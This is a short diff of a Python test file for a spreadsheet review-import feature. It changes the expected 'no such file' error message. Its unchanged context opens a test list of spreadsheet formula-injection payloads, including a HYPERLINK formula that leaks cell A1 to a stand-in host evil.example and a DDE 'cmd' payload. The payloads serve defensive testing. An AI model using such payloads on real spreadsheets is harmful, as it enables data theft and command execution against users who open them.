@@ -478,7 +478,8 @@ def test_a_file_that_is_not_a_review_workbook_is_one_error(session, tmp_path: Pa
     result = import_review([other, tmp_path / "missing.xlsx"], session=session)
     assert [o.status for o in result.report.outcomes] == ["error", "error"]
     assert result.report.outcomes[0].reason.startswith("no review sheet")
-    assert result.report.outcomes[1].reason == "no such file"
+    assert result.report.outcomes[1].reason == ("no such file; check the path (a typo, or moved "
+                                                "or renamed?)")
 
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")', "+cmd|' /C calc'!A0",
